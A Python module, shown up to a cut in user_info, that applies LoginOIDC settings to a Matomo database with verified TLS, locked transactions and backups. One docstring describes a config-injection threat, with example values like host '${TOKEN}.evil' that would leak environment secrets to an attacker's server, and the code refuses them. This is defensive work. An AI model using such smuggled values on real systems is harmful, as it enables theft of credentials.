"""Matomo's database as an apply target: ``<prefix>plugin_setting`` and ``<prefix>loginoidc_provider``.

What Matomo does, and so what this module does (matomo-org/matomo
``core/Settings/Storage/Backend/PluginSettingsTable.php``, ``core/Db/Schema/Mysql.php``):

- System settings are rows ``(plugin_name='LoginOIDC', user_login='', setting_name,
  setting_value, json_encoded)``. Scalars are stored as text with ``json_encoded = 0`` (bools as
  ``'0'``/``'1'``); arrays as JSON with ``json_encoded = 1``. There is no unique key: two rows with
  one ``setting_name`` and ``json_encoded = 0`` are read back as an *array*, so a write must
  never leave two rows for one setting.
- ``json_encoded`` exists since Matomo 3.5.0-b4 and ``idplugin_setting`` since 3.6.0-b2
  (``core/Updates/``); older tables are read and written without them.
- The plugin's own table ``<prefix>loginoidc_provider`` (LoginOIDC ``LoginOIDC.php::install``)
  links a Matomo login to a provider subject, ``provider`` always ``'oidc'``.

Round trips are constant, whatever the number of settings: one schema query, one SELECT to
read; a write is GET_LOCK, BEGIN, SELECT ... FOR UPDATE, one ``DELETE ... IN`` (by primary key:
exactly the rows the plan replaces), one multi-row INSERT, COMMIT, RELEASE_LOCK.
``MatomoDatabase.statements`` counts them.

Connections are opened by ``dbconnect.py`` rules: TLS verified with the host name, and no
authentication step that reveals the password to an unverified server. PyMySQL is imported
only when a connection is opened.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import time
from collections.abc import Callable, Collection, Iterator, Mapping
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qsl, unquote, urlsplit

from oidcsetup.apps.matomo.dbconnect import TlsOptions
from oidcsetup.apps.matomo.plan import Action, Plan, diff_settings
from oidcsetup.errors import ApplyError, InputError, UnreachableError, UsageError
from oidcsetup.fileio import atomic_write_bytes

if TYPE_CHECKING:
    import pymysql.connections

PLUGIN = "LoginOIDC"
PROVIDER = "oidc"
DEFAULT_PORT = 3306
DEFAULT_PREFIX = "matomo_"  # the Matomo installer's default [database] tables_prefix
PREFIX_RE = re.compile(r"^[A-Za-z0-9_]*$")
ENV_PREFIX = "OIDCSETUP_DB_"
PASSWORD_ENV = "OIDCSETUP_DB_PASSWORD"
# Names of variables a config.ini.php [database] ${NAME} may be filled from (comma-separated).
CONFIG_ENV_ALLOW = "OIDCSETUP_DB_CONFIG_ENV"
BACKUP_FORMAT = "oidcsetup-matomo-db-backup/1"
# Where libmysqlclient/PDO look for the server's socket when the host is "localhost".
DEFAULT_SOCKETS = ("/run/mysqld/mysqld.sock", "/var/run/mysqld/mysqld.sock", "/tmp/mysql.sock")

# MySQL/MariaDB client and server error numbers (mysqld_error.h, errmsg.h).
_UNREACHABLE = {1927, 2002, 2003, 2005, 2006, 2013, 2055, 4031}
_ACCESS_DENIED = {1044, 1045, 1142, 1143, 1227, 1698}
_UNKNOWN_DB = 1049
_NO_SUCH_TABLE = 1146
_BAD_FIELD = 1054
_LOCK_RETRY = {1205, 1213}  # lock wait timeout, deadlock: the transaction was rolled back


# --------------------------------------------------------------------------------------------
# Connection settings
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class DbSettings:
    """How to reach Matomo's database. The password is never shown (``repr`` hides it)."""

    database: str
    user: str = "root"
    password: str | None = field(default=None, repr=False)
    host: str = "127.0.0.1"
    port: int = DEFAULT_PORT
    unix_socket: str | None = None
    prefix: str = DEFAULT_PREFIX
    charset: str = "utf8mb4"
    tls: TlsOptions | None = None  # None: no TLS
    connect_timeout: float = 5.0
    source: str = "dsn"  # "dsn", "config:<path>" or "env"

    def __post_init__(self) -> None:
        check_prefix(self.prefix)
        if not self.database:
            raise InputError(
                "no database name given",
                hint="name it in the DSN (mysql://user@host/DBNAME) or OIDCSETUP_DB_NAME",
            )

    @property
    def where(self) -> str:
        place = self.unix_socket or f"{self.host}:{self.port}"
        return f"{self.user}@{place}/{self.database}"

    def table(self, name: str) -> str:
        """A prefixed table name, backquoted (the prefix is validated, the name is ours)."""
        return f"`{self.prefix}{name}`"

    def to_json(self) -> dict[str, Any]:
        return {
            "host": None if self.unix_socket else self.host,
            "port": None if self.unix_socket else self.port,
            "socket": self.unix_socket,
            "user": self.user,
            "database": self.database,
            "prefix": self.prefix,
            "ssl": bool(self.tls),
            "source": self.source,
        }


def check_prefix(prefix: str) -> str:
    if not PREFIX_RE.match(prefix):
        raise InputError(
            f"invalid table prefix {prefix!r}: only letters, digits and _ are allowed",
            hint="use the tables_prefix of Matomo's [database] section, e.g. matomo_",
        )
    return prefix


def _port(value: str, where: str) -> int:
    try:
        port = int(value)
    except ValueError:
        port = -1
    if not 0 < port < 65536:
        raise UsageError(f"invalid port {value!r} in {where}", hint="a number from 1 to 65535")
    return port


def _local_socket(host: str, socket: str | None) -> str | None:
    """Like libmysqlclient/PDO: ``localhost`` without a port means the default local socket
    (one nobody else could have planted: ``dbconnect.trusted_default_socket``)."""
    from oidcsetup.apps.matomo.dbconnect import trusted_default_socket

    if socket or host != "localhost":
        return socket
    return next((s for s in DEFAULT_SOCKETS if trusted_default_socket(s)), None)


# [scheme://]user:password@ (also without a scheme: "matomo:pw@db/m" is a common slip).
_DSN_PASSWORD_RE = re.compile(r"^(?P<head>(?:[A-Za-z][A-Za-z0-9+.-]*://)?[^:@/?#]*):[^@/?#]*@")


def redact_dsn(dsn: str) -> str:
    """The DSN for a message: a ``user:password@`` keeps the user, the password becomes ***."""
    return _DSN_PASSWORD_RE.sub(r"\g<head>:***@", dsn.strip())


def parse_dsn(
    dsn: str,
    *,
    environ: Mapping[str, str] | None = None,
    prompt: Callable[[], str | None] | None = None,
) -> DbSettings:
    """``mysql://user@host:port/db?prefix=matomo_&socket=/run/mysqld/mysqld.sock&ssl_ca=/ca.pem``.

    A password inside the DSN is refused (it would show in ``ps`` and shell history): it comes
    from ``$OIDCSETUP_DB_PASSWORD``, else ``prompt`` (a terminal), else none. No message
    repeats it (``redact_dsn``).
    Query parameters: prefix, socket (or unix_socket), charset, ssl (1), ssl_ca, ssl_cert,
    ssl_key, ssl_verify (0 to skip certificate and host name checks).
    """
    env = os.environ if environ is None else environ
    hint = "write it as mysql://USER@HOST:PORT/DATABASE (password in $OIDCSETUP_DB_PASSWORD)"
    shown = redact_dsn(dsn)
    try:
        parts = urlsplit(dsn.strip())
        port_text = parts.netloc.rpartition("@")[2].rpartition("]")[2].partition(":")[2]
        has_password = parts.password is not None
    except ValueError as exc:
        raise UsageError(f"malformed DSN: {exc}", hint=hint) from None
    if has_password:
        raise UsageError(
            "the DSN contains a password; it would be visible in the process list and history",
            hint="remove it from the DSN and export OIDCSETUP_DB_PASSWORD instead",
        )
    if parts.scheme not in ("mysql", "mariadb", "mysql+pymysql"):
        raise UsageError(f"malformed DSN {shown!r}: the scheme must be mysql://", hint=hint)
    if parts.fragment:
        raise UsageError(f"malformed DSN {shown!r}: unexpected #fragment", hint=hint)
    try:
        query = dict(
            parse_qsl(parts.query, keep_blank_values=True, strict_parsing=bool(parts.query))
        )
    except ValueError:
        raise UsageError("malformed DSN query string (after the ?)", hint=hint) from None
    known = {
        "prefix",
        "socket",
        "unix_socket",
        "charset",
        "ssl",
        "ssl_ca",
        "ssl_cert",
        "ssl_key",
        "ssl_verify",
    }
    unknown = sorted(set(query) - known)
    if unknown:
        raise UsageError(
            f"unknown DSN parameter(s): {', '.join(unknown)}",
            hint="known: " + ", ".join(sorted(known)),
        )
    database = unquote(parts.path.lstrip("/"))
    if not database or "/" in database:
        raise UsageError(f"malformed DSN {shown!r}: no database name after the host", hint=hint)
    host = parts.hostname or ""
    socket = query.get("socket") or query.get("unix_socket") or None
    if not host and not socket:
        raise UsageError(f"malformed DSN {shown!r}: no host", hint=hint)
    port = _port(port_text, "the DSN") if port_text else DEFAULT_PORT
    if not port_text:
        socket = _local_socket(host, socket)
    password = env.get(PASSWORD_ENV)
    if password is None and prompt is not None:
        password = prompt()
    tls: TlsOptions | None = None
    if query.get("ssl", "0") not in ("", "0", "false") or any(
        k in query for k in ("ssl_ca", "ssl_cert", "ssl_key")
    ):
        tls = TlsOptions(
            ca=query.get("ssl_ca") or None,
            cert=query.get("ssl_cert") or None,
            key=query.get("ssl_key") or None,
            verify=query.get("ssl_verify", "1") not in ("0", "false", "no"),
        )
    return DbSettings(
        database=database,
        user=unquote(parts.username or "") or "root",
        password=password,
        host=host or "localhost",
        port=port,
        unix_socket=socket,
        prefix=query.get("prefix", env.get(ENV_PREFIX + "PREFIX", DEFAULT_PREFIX)),
        charset=query.get("charset") or "utf8mb4",
        tls=tls,
        source="dsn",
    )


def settings_from_env(
    environ: Mapping[str, str] | None = None,
    prompt: Callable[[], str | None] | None = None,
) -> DbSettings | None:
    """From ``OIDCSETUP_DB_{HOST,PORT,SOCKET,USER,PASSWORD,NAME,PREFIX,CHARSET}``; None if unset."""
    env = os.environ if environ is None else environ

    def get(name: str) -> str | None:
        value = env.get(ENV_PREFIX + name)
        return value if value else None

    if not (get("NAME") or get("HOST") or get("SOCKET")):
        return None
    host = get("HOST") or "localhost"
    port_text = get("PORT")
    socket = get("SOCKET")
    if port_text and port_text.startswith("/"):
        socket, port_text = port_text, None
    if not port_text:
        socket = _local_socket(host, socket)
    password = env.get(PASSWORD_ENV)
    if password is None and prompt is not None:
        password = prompt()
    return DbSettings(
        database=get("NAME") or "",
        user=get("USER") or "root",
        password=password,
        host=host,
        port=_port(port_text, "$OIDCSETUP_DB_PORT") if port_text else DEFAULT_PORT,
        unix_socket=socket,
        prefix=env.get(ENV_PREFIX + "PREFIX", DEFAULT_PREFIX),
        charset=get("CHARSET") or "utf8mb4",
        source="env",
    )


# --- Matomo's config/config.ini.php, [database] section --------------------------------------


def resolve_db_settings(
    *,
    dsn: str | None,
    from_config: Path | None,
    config_path: Path | None,
    prompt: Callable[[], str | None] | None = None,
    environ: Mapping[str, str] | None = None,
) -> DbSettings:
    """The database to use, by precedence: a DSN, a Matomo config's [database], the
    OIDCSETUP_DB_* variables, then the ``--config`` file being applied or checked."""
    env = os.environ if environ is None else environ
    asker = None if env.get(PASSWORD_ENV) is not None else prompt
    if dsn:
        return parse_dsn(dsn, prompt=asker)
    if from_config:
        return settings_from_matomo_config(from_config)
    from_env = settings_from_env(env, prompt=asker)
    if from_env is not None:
        return from_env
    if config_path:
        return settings_from_matomo_config(config_path)
    raise UsageError(
        "--db needs a database: --dsn DSN, --from-config PATH or OIDCSETUP_DB_* variables",
        hint="e.g. --db --from-config /var/www/matomo/config/config.ini.php",
    )


def settings_from_matomo_config(path: Path, environ: Mapping[str, str] | None = None) -> DbSettings:
    """Connection settings as Matomo itself uses them (``core/Db/Adapter.php`` and ``Db.php``).

    The file is read by configfile.py (entities decoded); ``port = /path/to/socket`` means a
    unix socket; a missing ``tables_prefix`` is the empty prefix of ``global.ini.php``.
    ``$OIDCSETUP_DB_PASSWORD``, when set, wins over the file.

    A ``${NAME}`` in ``[database]`` is NOT filled from our environment: PHP fills it from the
    web server's environment, and ours is root's or CI's, so whoever may write config.ini.php
    could make us send any of our variables to a server of theirs (``host = "${TOKEN}.evil"``,
    ``password = "${CI_DEPLOY_TOKEN}"``). Such a value is refused with a one-line error, unless
    the user names the variable in ``$OIDCSETUP_DB_CONFIG_ENV`` (comma-separated): an
    explicit, per-variable opt-in, so a later edit of the file cannot reach other variables.
    A reference in ``password`` is harmless when ``$OIDCSETUP_DB_PASSWORD`` replaces it.
    """
    from oidcsetup.apps.matomo.configfile import MatomoConfig

    env = os.environ if environ is None else environ
    password = env.get(PASSWORD_ENV)
    config = MatomoConfig.load(path)
    allowed = {n.strip() for n in env.get(CONFIG_ENV_ALLOW, "").split(",") if n.strip()}
    for key, value in config.document.values("database").items():
        if key == "password" and password is not None:
            continue
        for name in value.env_refs:
            if name not in allowed:
                raise InputError(
                    f"{path}: [database] {key} refers to ${{{name}}}, which oidcsetup does not "
                    "fill from its own environment (anyone who can write that file could read "
                    "our variables)",
                    hint=f"give the connection with --dsn / OIDCSETUP_DB_*, or allow this "
                    f"variable: {CONFIG_ENV_ALLOW}={name}",
                )
    db = config.database({n: env[n] for n in allowed if n in env})
    if not db.dbname:
        raise InputError(
            f"{path}: [database] names no dbname",
            hint="give the database with --dsn or OIDCSETUP_DB_* instead",
        )
    host = db.host or "localhost"
    socket = db.unix_socket
    if socket is None and host.startswith("/"):
        socket = host
    tls: TlsOptions | None = None
    if db.enable_ssl:
        tls = TlsOptions(
            ca=db.ssl_ca,
            cert=db.ssl_cert,
            key=db.ssl_key,
            capath=db.ssl_ca_path,
            cipher=db.ssl_cipher,
            verify=not db.ssl_no_verify,
        )
    return DbSettings(
        database=db.dbname,
        user=db.username or "root",
        password=password if password is not None else db.password,
        host=host,
        port=db.port,
        unix_socket=socket,
        prefix=db.tables_prefix,
        charset=db.charset or "utf8mb4",
        tls=tls,
        source=f"config:{path}",
    )


# --------------------------------------------------------------------------------------------
# Results
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class SchemaInfo:
    """Which of the tables this module uses exist, and the plugin_setting columns."""

    plugin_setting_columns: frozenset[str]
    has_provider_table: bool
    has_user_table: bool

    @property
    def json_encoded(self) -> bool:
        return "json_encoded" in self.plugin_setting_columns

    @property
    def has_id(self) -> bool:
        return "idplugin_setting" in self.plugin_setting_columns


@dataclass(frozen=True)
class StoredRow:
    """One ``plugin_setting`` row of the plugin's system settings."""

    name: str
    value: str
    json_encoded: int = 0
    # The row's primary key (Matomo 3.6+), None for rows not read from the table: the write
    # deletes exactly the rows it read, by key (see ``MatomoDatabase._replace_rows``).
    id: int | None = field(default=None, compare=False)

    def to_json(self) -> dict[str, Any]:
        return {
            "setting_name": self.name,
            "setting_value": self.value,
            "json_encoded": self.json_encoded,
        }


@dataclass(frozen=True)
class PluginState:
    provider_table: bool  # <prefix>loginoidc_provider exists: the plugin was activated once
    settings_rows: int
    linked_users: int

    def to_json(self) -> dict[str, Any]:
        return {
            "provider_table": self.provider_table,
            "settings_rows": self.settings_rows,
            "linked_users": self.linked_users,
        }


@dataclass(frozen=True)
class ApplyResult:
    plan: Plan
    written: bool
    backup: Path | None = None

    def to_json(self, show_secrets: bool = False) -> dict[str, Any]:
        return {
            **self.plan.to_json(show_secrets),
            "written": self.written,
            "backup": str(self.backup) if self.backup else None,
        }


@dataclass(frozen=True)
class LinkResult:
    login: str
    subject: str
    action: str  # "added" | "changed" | "unchanged"
    previous_subject: str | None = None
    superuser: bool = False

    def to_json(self) -> dict[str, Any]:
        return {
            "login": self.login,
            "subject": self.subject,
            "provider": PROVIDER,
            "action": self.action,
            "previous_subject": self.previous_subject,
            "superuser": self.superuser,
        }


def flatten_rows(rows: Collection[StoredRow]) -> dict[str, str]:
    """The settings as Matomo's ``PluginSettingsTable::load`` sees them, in stored string form.

    A json_encoded row is decoded (a scalar gives its text, a bool '0'/'1'); several plain rows
    of one name are an array in Matomo, shown here as their JSON list (never equal to a desired
    scalar, so such a setting is always rewritten as one row).
    """
    grouped: dict[str, list[Any]] = {}
    for row in rows:
        value: Any = row.value
        if row.json_encoded:
            try:
                value = json.loads(row.value)
            except ValueError:
                value = row.value
            if isinstance(value, bool):
                value = "1" if value else "0"
            elif isinstance(value, int | float) or value is None:
                value = "" if value is None else str(value)
            grouped[row.name] = [value]  # Matomo: a json_encoded row replaces what came before
            continue
        grouped.setdefault(row.name, []).append(value)
    flat: dict[str, str] = {}
    for name, values in grouped.items():
        if len(values) == 1 and isinstance(values[0], str):
            flat[name] = values[0]
        else:
            flat[name] = json.dumps(values if len(values) > 1 else values[0], ensure_ascii=False)
    return flat


def _stored_row_is_clean(rows: Collection[StoredRow], name: str, value: str) -> bool:
    matching = [r for r in rows if r.name == name]
    return len(matching) == 1 and matching[0].value == value and not matching[0].json_encoded


# --------------------------------------------------------------------------------------------
# The database
# --------------------------------------------------------------------------------------------


def _errno(exc: BaseException) -> int:
    args = getattr(exc, "args", ())
    return args[0] if args and isinstance(args[0], int) else 0


def _errtext(exc: BaseException) -> str:
    args: tuple[Any, ...] = tuple(getattr(exc, "args", ()))
    return str(args[1]) if len(args) > 1 else str(exc)


class MatomoDatabase:
    """One connection to Matomo's database. Use as a context manager, or call ``close``."""

    def __init__(
        self, settings: DbSettings, connection: pymysql.connections.Connection[Any]
    ) -> None:
        self.settings = settings
        self.connection = connection
        self.statements = 0  # SQL round trips after the handshake (see the module docstring)
        self._schema: SchemaInfo | None = None

    # --- connection -------------------------------------------------------------------------

    @classmethod
    def connect(cls, settings: DbSettings) -> MatomoDatabase:
        """Open the connection: TLS verified as ``dbconnect.tls_context`` builds it, and an
        authentication that never hands the password to an unverified server
        (``dbconnect.guarded_auth_plugins``)."""
        import pymysql

        from oidcsetup.apps.matomo.dbconnect import (
            guarded_auth_plugins,
            guarded_connection_class,
            tls_context,
        )

        kwargs: dict[str, Any] = {
            "user": settings.user,
            # As bytes: PyMySQL would encode a str as Latin-1 (failing on other characters);
            # PHP's PDO sends the UTF-8 bytes of the config file's string, so do we.
            "password": (settings.password or "").encode("utf-8"),
            "database": settings.database,
            "charset": settings.charset,
            "connect_timeout": settings.connect_timeout,
            "read_timeout": 60,
            "write_timeout": 60,
            "autocommit": True,
            "local_infile": False,
            "auth_plugin_map": guarded_auth_plugins(),
        }
        if settings.unix_socket:
            kwargs["unix_socket"] = settings.unix_socket
        else:
            kwargs["host"] = settings.host
            kwargs["port"] = settings.port
        if settings.tls:
            kwargs["ssl"] = tls_context(settings.tls)
        # Without TLS options PyMySQL still uses TLS when the server offers it, unverified
        # ("preferred"): kept, it hides the traffic from passive listeners.
        try:
            connection = guarded_connection_class()(**kwargs)
        except pymysql.err.MySQLError as exc:
            raise _connect_error(exc, settings) from None
        except (OSError, ValueError) as exc:
            # Never the exception's text for a ValueError: it may quote the credentials.
            reason = exc.strerror or str(exc) if isinstance(exc, OSError) else type(exc).__name__
            raise UnreachableError(
                f"cannot connect to the database at {settings.where}: {reason}",
                hint="check host, port or socket, and that the server is running",
            ) from None
        return cls(settings, connection)

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.connection.close()

    def __enter__(self) -> MatomoDatabase:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    # --- low level --------------------------------------------------------------------------

    def _query(self, sql: str, args: Any = None) -> list[tuple[Any, ...]]:
        import pymysql

        self.statements += 1
        try:
            with self.connection.cursor() as cursor:
                cursor.execute(sql, args)
                return list(cursor.fetchall())
        except pymysql.err.MySQLError as exc:
            raise self._error(exc) from exc

    def _error(self, exc: BaseException) -> Exception:
        code = _errno(exc)
        table = self.settings.table("plugin_setting").strip("`")
        if code in _UNREACHABLE:
            return UnreachableError(
                f"lost the connection to the database at {self.settings.where}: {_errtext(exc)}",
                hint="check the server; a transaction in progress was rolled back by the server",
            )
        if code == _NO_SUCH_TABLE:
            return InputError(
                f"a Matomo table is missing in database {self.settings.database}: {_errtext(exc)}",
                hint=f"check the table prefix ({self.settings.prefix!r}) and that Matomo is installed",
            )
        if code in _ACCESS_DENIED:
            return InputError(
                f"the database user {self.settings.user} may not do this on {table}: {_errtext(exc)}",
                hint="grant SELECT, INSERT, DELETE on Matomo's tables to that user",
            )
        return ApplyError(f"database error {code}: {_errtext(exc)}")

    # --- schema and reading -----------------------------------------------------------------

    def schema(self) -> SchemaInfo:
        """One query over information_schema; InputError when plugin_setting is missing."""
        if self._schema is not None:
            return self._schema
        prefix = self.settings.prefix
        names = (f"{prefix}plugin_setting", f"{prefix}loginoidc_provider", f"{prefix}user")
        rows = self._query(
            "SELECT TABLE_NAME, COLUMN_NAME FROM information_schema.COLUMNS "
            "WHERE TABLE_SCHEMA = DATABASE() AND TABLE_NAME IN (%s, %s, %s)",
            names,
        )
        columns: dict[str, set[str]] = {}
        for table, column in rows:
            columns.setdefault(str(table), set()).add(str(column).lower())
        setting_columns = columns.get(names[0], set())
        if not setting_columns:
            raise InputError(
                f"table {names[0]} does not exist in database {self.settings.database}",
                hint=f"check the table prefix ({prefix!r}; Matomo's [database] tables_prefix) and the database name",
            )
        required = {"plugin_name", "setting_name", "setting_value", "user_login"}
        if not required <= setting_columns:
            raise InputError(
                f"table {names[0]} lacks columns {', '.join(sorted(required - setting_columns))}: not Matomo's plugin_setting",
                hint="check the table prefix and the database",
            )
        self._schema = SchemaInfo(
            plugin_setting_columns=frozenset(setting_columns),
            has_provider_table=names[1] in columns,
            has_user_table=names[2] in columns,
        )
        return self._schema

    def _select_rows_sql(self, for_update: bool = False) -> str:
        schema = self.schema()
        json_col = "`json_encoded`" if schema.json_encoded else "0"
        id_col = "`idplugin_setting`" if schema.has_id else "NULL"
        order = " ORDER BY `idplugin_setting`" if schema.has_id else ""
        lock = " FOR UPDATE" if for_update else ""
        return (
            f"SELECT `setting_name`, `setting_value`, {json_col}, {id_col} "
            f"FROM {self.settings.table('plugin_setting')} "
            f"WHERE `plugin_name` = %s AND `user_login` = ''{order}{lock}"
        )

    def read_rows(self, *, for_update: bool = False) -> list[StoredRow]:
        """The plugin's system-setting rows, as PluginSettingsTable::load selects them.

        The WHERE is Matomo's own (``plugin_name = ? and user_login = ?`` under the table's
        collation), so what we read is what Matomo reads; names are then compared exactly, in
        Python, as PHP compares array keys.
        """
        rows = self._query(self._select_rows_sql(for_update), (PLUGIN,))
        return [
            StoredRow(str(n), _text(v), int(j or 0), None if i is None else int(i))
            for n, v, j, i in rows
        ]

    def read_settings(self) -> dict[str, str]:
        return flatten_rows(self.read_rows())

    def plan(
        self,
        desired: Mapping[str, str],
        *,
        prune: bool = False,
        known: Collection[str] | None = None,
    ) -> Plan:
        return self.read_and_plan(desired, prune=prune, known=known)[1]

    def read_and_plan(
        self,
        desired: Mapping[str, str],
        *,
        prune: bool = False,
        known: Collection[str] | None = None,
    ) -> tuple[dict[str, str], Plan]:
        """``read_settings()`` and ``plan(...)`` from one SELECT."""
        check_names(desired, known)
        rows = self.read_rows()
        return flatten_rows(rows), self._plan(rows, desired, prune)

    def _plan(self, rows: list[StoredRow], desired: Mapping[str, str], prune: bool) -> Plan:
        plan = diff_settings(flatten_rows(rows), dict(desired), prune=prune, target=self.target)
        # A setting whose value matches but is stored oddly (duplicates, json_encoded) is rewritten.
        changes = tuple(
            replace(c, action=Action.CHANGE)
            if c.action is Action.UNCHANGED
            and not _stored_row_is_clean(rows, c.setting, c.new or "")
            else c
            for c in plan.changes
        )
        return replace(plan, changes=changes)

    @property
    def target(self) -> str:
        return f"db:{self.settings.database}.{self.settings.prefix}plugin_setting"

    # --- writing ----------------------------------------------------------------------------

    @contextlib.contextmanager
    def _transaction(self, lock_timeout: int = 10) -> Iterator[None]:
        """A named lock (serialises oidcsetup writers) around one transaction, rolled back on error."""
        lock_name = f"oidcsetup:{self.settings.database}.{self.settings.prefix}plugin_setting"
        got = self._query("SELECT GET_LOCK(%s, %s)", (lock_name, lock_timeout))
        if not got or got[0][0] != 1:
            raise ApplyError(
                "another writer holds the oidcsetup lock on this Matomo database",
                hint="wait for it to finish, then run the command again",
            )
        try:
            self._query("START TRANSACTION")
            try:
                yield
                self._commit()
            except UnreachableError as exc:
                with contextlib.suppress(Exception):
                    self.connection.rollback()
                raise ApplyError(
                    f"the connection was lost during the write: {exc.message}",
                    hint="the server rolled the transaction back, nothing was changed; run the command again",
                ) from exc.__cause__
            except BaseException:
                with contextlib.suppress(Exception):
                    self.connection.rollback()
                raise
        finally:
            with contextlib.suppress(Exception):
                self._query("SELECT RELEASE_LOCK(%s)", (lock_name,))

    def _commit(self) -> None:
        try:
            self._query("COMMIT")
        except UnreachableError as exc:
            raise ApplyError(
                f"the connection was lost while committing: {exc.message}",
                hint="the outcome is unknown: run the same command with --check to see the state",
            ) from None

    def _replace_rows(
        self, old: Collection[StoredRow], rows: list[StoredRow], hook: Callable[[str], None] | None
    ) -> None:
        """DELETE exactly the rows ``old`` (read under the lock), then INSERT ``rows``: two
        statements, any count.

        By primary key where the table has one (Matomo 3.6+). Comparing names in SQL would use
        the column's collation (utf8mb4_general_ci: ``clientsecret`` = ``clientSecret``,
        ``clientId `` = ``clientId``) and delete rows the plan never showed. Tables without a
        key (before 3.6) are matched by the exact bytes of the name (``BINARY``).
        """
        table = self.settings.table("plugin_setting")
        ids = [r.id for r in old if r.id is not None]
        if ids and len(ids) == len(old):
            marks = ", ".join(["%s"] * len(ids))
            self._query(f"DELETE FROM {table} WHERE `idplugin_setting` IN ({marks})", ids)
        elif old:
            names = sorted({r.name for r in old})
            marks = ", ".join(["%s"] * len(names))
            self._query(
                f"DELETE FROM {table} WHERE `plugin_name` = %s AND `user_login` = '' "
                f"AND BINARY `setting_name` IN ({marks})",
                (PLUGIN, *names),
            )
        if hook:
            hook("deleted")
        if rows:
            if self.schema().json_encoded:
                marks = ", ".join(["(%s, '', %s, %s, %s)"] * len(rows))
                args: list[Any] = []
                for row in rows:
                    args += [PLUGIN, row.name, row.value, row.json_encoded]
                columns = (
                    "`plugin_name`, `user_login`, `setting_name`, `setting_value`, `json_encoded`"
                )
            else:
                marks = ", ".join(["(%s, '', %s, %s)"] * len(rows))
                args = []
                for row in rows:
                    args += [PLUGIN, row.name, row.value]
                columns = "`plugin_name`, `user_login`, `setting_name`, `setting_value`"
            self._query(f"INSERT INTO {table} ({columns}) VALUES {marks}", args)
        if hook:
            hook("inserted")

    def _retrying(self, work: Callable[[], ApplyResult], attempts: int = 3) -> ApplyResult:
        for attempt in range(attempts):
            try:
                return work()
            except ApplyError as exc:
                cause = exc.__cause__
                if cause is None or _errno(cause) not in _LOCK_RETRY or attempt == attempts - 1:
                    raise
                time.sleep(0.05 * (attempt + 1))
        raise AssertionError("unreachable")

    def apply(
        self,
        desired: Mapping[str, str],
        *,
        prune: bool = False,
        known: Collection[str] | None = None,
        backup_dir: Path | None = None,
        hook: Callable[[str], None] | None = None,
        expected: Plan | None = None,
    ) -> ApplyResult:
        """Write the desired settings in one transaction; a backup of the previous rows first.

        The plan is recomputed under the lock from the rows as they are then, so two applies at
        once end in one consistent state and an apply with nothing to change writes nothing
        (no backup, no DELETE/INSERT). With ``expected`` (the plan the user was shown), a
        different plan under the lock writes nothing (ApplyError): the write does exactly what
        was shown. Only rows of the settings the plan changes are replaced, matched by their
        exact name. ``hook(stage)`` is called after "deleted" and "inserted" (used by tests to
        inject faults).
        """
        check_names(desired, known)

        def work() -> ApplyResult:
            with self._transaction():
                rows = self.read_rows(for_update=True)
                plan = self._plan(rows, desired, prune)
                if expected is not None and plan.changes != expected.changes:
                    raise ApplyError(
                        "the LoginOIDC rows in the database changed since the plan was made: "
                        "nothing was written",
                        hint="run the command again to see the new plan",
                    )
                if plan.in_sync:
                    return ApplyResult(plan, written=False)
                backup = (
                    write_backup(self.settings, rows, backup_dir)
                    if backup_dir is not None
                    else None
                )
                names = {c.setting for c in plan.pending}
                new_rows = [StoredRow(c.setting, c.new) for c in plan.pending if c.new is not None]
                self._replace_rows([r for r in rows if r.name in names], new_rows, hook)
                return ApplyResult(plan, written=True, backup=backup)

        return self._retrying(work)

    def restore(
        self,
        backup: Path,
        *,
        backup_dir: Path | None = None,
        hook: Callable[[str], None] | None = None,
        force: bool = False,
    ) -> ApplyResult:
        """Put back exactly the rows saved in ``backup`` (all of the plugin's system settings).

        With ``backup_dir``, the rows being replaced are saved there first, as ``apply`` does, so
        a restore can be undone too. A backup of another database or table prefix is refused
        unless ``force`` (``backup_rows``).
        """
        saved = self.backup_rows(backup, force=force)

        def work() -> ApplyResult:
            with self._transaction():
                rows = self.read_rows(for_update=True)
                plan = diff_settings(
                    flatten_rows(rows), flatten_rows(saved), prune=True, target=self.target
                )
                if plan.in_sync and sorted(map(_row_key, rows)) == sorted(map(_row_key, saved)):
                    return ApplyResult(plan, written=False)
                new_rows = saved
                if not self.schema().json_encoded:
                    new_rows = [replace(r, json_encoded=0) for r in saved]
                previous = (
                    write_backup(self.settings, rows, backup_dir)
                    if backup_dir is not None
                    else None
                )
                self._replace_rows(rows, new_rows, hook)
                return ApplyResult(plan, written=True, backup=previous)

        return self._retrying(work)

    def backup_rows(self, backup: Path, *, force: bool = False) -> list[StoredRow]:
        """The rows of ``backup``, refused (unless ``force``) when it was taken from another
        database or table prefix: restoring it would copy another Matomo's settings here."""
        saved = load_backup(backup)
        table = f"{self.settings.prefix}plugin_setting"
        if (saved.database, saved.table) != (self.settings.database, table) and not force:
            raise InputError(
                f"{backup} was taken from {saved.database}.{saved.table}, not "
                f"{self.settings.database}.{table}",
                hint="check --dsn/--from-config (or the backup); --force restores it here anyway",
            )
        return saved.rows

    # --- plugin state and account links -----------------------------------------------------

    def plugin_state(self) -> PluginState:
        schema = self.schema()
        linked = 0
        if schema.has_provider_table:
            rows = self._query(
                f"SELECT (SELECT COUNT(*) FROM {self.settings.table('plugin_setting')} "
                "WHERE `plugin_name` = %s AND `user_login` = ''), "
                f"(SELECT COUNT(*) FROM {self.settings.table('loginoidc_provider')} WHERE `provider` = %s)",
                (PLUGIN, PROVIDER),
            )
            count, linked = int(rows[0][0]), int(rows[0][1])
        else:
            rows = self._query(
                f"SELECT COUNT(*) FROM {self.settings.table('plugin_setting')} "
                "WHERE `plugin_name` = %s AND `user_login` = ''",
                (PLUGIN,),
            )
            count = int(rows[0][0])
        return PluginState(
            provider_table=schema.has_provider_table, settings_rows=count, linked_users=linked
        )

    def _require_link_tables(self) -> None:
        schema = self.schema()
        if not schema.has_user_table:
            raise InputError(
                f"table {self.settings.prefix}user does not exist in database {self.settings.database}",
                hint="check the table prefix and the database name",
            )
        if not schema.has_provider_table:
            raise InputError(
                f"table {self.settings.prefix}loginoidc_provider does not exist: the LoginOIDC plugin "
                "was never activated",
                hint="activate it first: ./console plugin:activate LoginOIDC",
            )

    def user_info(self, login: str) -> tuple[bool, bool]:
        """(exists, is super user) for a Matomo login."""
